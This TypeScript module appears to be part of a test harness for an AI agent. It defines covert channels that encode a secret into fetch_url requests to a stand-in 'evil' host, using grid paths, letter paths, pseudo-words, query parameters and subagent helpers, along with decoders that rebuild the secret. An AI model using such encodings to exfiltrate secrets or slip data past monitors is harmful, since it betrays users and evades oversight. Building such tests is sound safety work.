import type { Call } from "@/lib/agent/loop/testing/model";
import { call, type Sites } from "../story";

/** A request as its site saw it, or the lookup of a name. */
export type Seen = {
  host: string;
  method: string;
  /** Path and query, undecoded. */
  path: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
};

/**
 * A code by which a model sends a secret to a site: `symbols` numbers below 2 ** `width`. `decode` reads them
 * from the requests that the site saw; undefined for a symbol that it did not receive.
 */
export type Channel = {
  name: string;
  /** The addresses that it uses, if other channels use them too. Only one such channel plays in a story. */
  uses?: "letters" | "grid" | "items" | "query" | "find";
  width: number;
  symbols: number;
  send(symbols: number[], at: Sites, secret: { key: string; from: number }): Call[][];
  decode(seen: Seen[]): (number | undefined)[];
  /** It fails even if the user approves, because its code cannot ask. */
  isRefused?: true;
  /** Returns the steps of a subagent. `send` then only starts the subagent. */
  helper?: (symbols: number[], at: Sites) => Call[][];
};

export const WORDS = Array.from({ length: 256 }, (_, n) => {
  const letters = "bdfgklmnprstvwxz";
  return `${letters[n >> 4]}a${letters[n & 15]}o`;
});
export const inOrder = (seen: Seen[], pattern: RegExp) =>
  seen.flatMap(({ path }) => {
    const found = pattern.exec(path);
    return found ? [Number(found[1])] : [];
  });
export const byPosition = (count: number, seen: Seen[], pattern = /\/g\/(\d+)\/(\d+)$/) => {
  const symbols = new Array<number | undefined>(count).fill(undefined);
  for (const { path } of seen) {
    const [, position, symbol] = pattern.exec(path) ?? [];
    if (position !== undefined) symbols[Number(position)] ??= Number(symbol);
  }
  return symbols;
};
export const get = (url: string, more: object = {}): Call => call("fetch_url", { url, ...more });
export const eachStep = (calls: Call[]) => calls.map((one) => [one]);

export const grid = (at: Sites) => (symbol: number, position: number) => `${at.evil}/g/${position}/${symbol}`;
export const letter = (at: Sites) => (symbol: number) => `${at.evil}/l/${symbol}`;

/** Requests that contain the secret itself. Each of them sends 64 bits. */
export const raw = (
  name: string,
  calls: (text: string, at: Sites) => Call[][],
  read: (seen: Seen) => string | undefined,
): Channel => ({
  ...{ name, width: 4, symbols: 16 },
  send: (symbols, at) => calls(symbols.map((n) => n.toString(16)).join(""), at),
  decode: (seen) => {
    const text = seen.map(read).find((one) => /^[\da-f]{16}$/.test(one ?? "")) ?? "";
    return [...text].map((sign) => Number.parseInt(sign, 16));
  },
});
export const query = ({ path }: Seen) => /[?&]d=([^&]*)/.exec(path)?.[1];

export const indexOfWord = (word: string): number | undefined => {
  const found = WORDS.indexOf(word);
  return found < 0 ? undefined : found;
};
